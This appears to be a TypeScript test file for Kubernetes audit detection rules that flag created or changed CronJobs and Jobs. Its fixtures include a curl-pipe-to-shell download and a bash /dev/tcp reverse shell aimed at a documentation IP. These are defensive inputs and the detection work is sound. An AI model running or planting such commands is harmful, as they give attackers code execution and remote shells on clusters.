import type { Rule } from '../../../lambdas/core/detect/rule';
import { cronjobRules } from '../../../lambdas/core/rules/cronjob';
import { FOREIGN_SA, controllerSA, dryRun, failed, fire, plain, privileged, ruleById, severity, workloadWrite } from './support/workloads';

const rule = (id: string): Rule => ruleById(cronjobRules, id);

describe('cronjob.created-or-changed', () => {
  const r = rule('cronjob.created-or-changed');

  it('notes a plain CronJob written by a person, with its schedule', () => {
    const [hit] = fire(r, workloadWrite('cronjobs', plain(), { name: 'backup' }));
    expect(hit.severity).toBe('medium');
    expect(hit.summary).toBe('alice@example.com created CronJob default/backup (runs on a schedule)');
    expect(hit.evidence).toMatchObject({ schedule: '*/5 * * * *', images: ['registry.example.com/app:1.2'] });
  });

  it('raises for a template that downloads code or escapes to the host', () => {
    const fetcher = { containers: [{ name: 'c', image: 'curlimages/curl:8', args: ['sh', '-c', 'curl -s http://203.0.113.9/x | sh'] }] };
    expect(severity(r, workloadWrite('cronjobs', fetcher))).toBe('high');
    const reverse = { containers: [{ name: 'c', image: 'bash:5', command: ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'] }] };
    expect(severity(r, workloadWrite('cronjobs', reverse))).toBe('critical');
    expect(severity(r, workloadWrite('cronjobs', privileged(), { namespace: 'kube-system' }))).toBe('critical');
  });

  it('reads a patch of the job template', () => {
    const patch = { spec: { jobTemplate: { spec: { template: { spec: { containers: [{ name: 'app', securityContext: { privileged: true } }] } } } } } };
    expect(severity(r, workloadWrite('cronjobs', plain(), { verb: 'patch', level: 'Request', patch }))).toBe('high');
    expect(fire(r, workloadWrite('cronjobs', plain(), { verb: 'patch', level: 'Request', patch: { spec: { schedule: '0 * * * *' } } }))).toEqual([]);
  });

  it('is quiet on near misses', () => {
    const e = workloadWrite('cronjobs', privileged());
    expect(fire(r, failed(e))).toEqual([]);
    expect(fire(r, dryRun(e))).toEqual([]);
    expect(fire(r, workloadWrite('cronjobs', plain(), { user: controllerSA('cronjob-controller') }))).toEqual([]);
  });
});

describe('cronjob.job-created-or-changed', () => {
  const r = rule('cronjob.job-created-or-changed');

  it('notes a plain Job by a person as info, and nothing by a service account', () => {
    expect(severity(r, workloadWrite('jobs', plain()))).toBe('info');
    expect(fire(r, workloadWrite('jobs', plain(), { user: FOREIGN_SA }))).toEqual([]);
  });

  it('raises for a privileged Job, whoever wrote it, except the CronJob controller', () => {
    expect(severity(r, workloadWrite('jobs', privileged(), { user: FOREIGN_SA }))).toBe('high');
    expect(fire(r, workloadWrite('jobs', privileged(), { user: controllerSA('cronjob-controller') }))).toEqual([]);
    expect(fire(r, failed(workloadWrite('jobs', privileged())))).toEqual([]);
  });
});
